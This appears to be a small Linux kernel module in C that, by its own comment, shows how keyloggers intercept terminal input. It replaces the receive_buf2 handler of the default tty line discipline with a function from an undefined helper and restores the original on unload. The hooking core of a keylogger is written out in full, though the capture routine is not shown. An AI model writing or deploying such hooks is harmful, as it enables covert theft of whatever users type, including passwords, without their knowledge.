// What the terminals' line discipline does with what is typed, as keyloggers
// have it.
#include "module.h"

extern struct tty_ldisc_ops *tty_ldiscs[];
static void *own, *receive;

static int up(void)
{
	own = tty_ldiscs[0]->receive_buf2;
	receive = stranger(0);
	put(&tty_ldiscs[0]->receive_buf2, (u64)receive);
	return 0;
}

static void down(void)
{
	put(&tty_ldiscs[0]->receive_buf2, (u64)own);
	forget(receive);
}

MODULE(up, down);
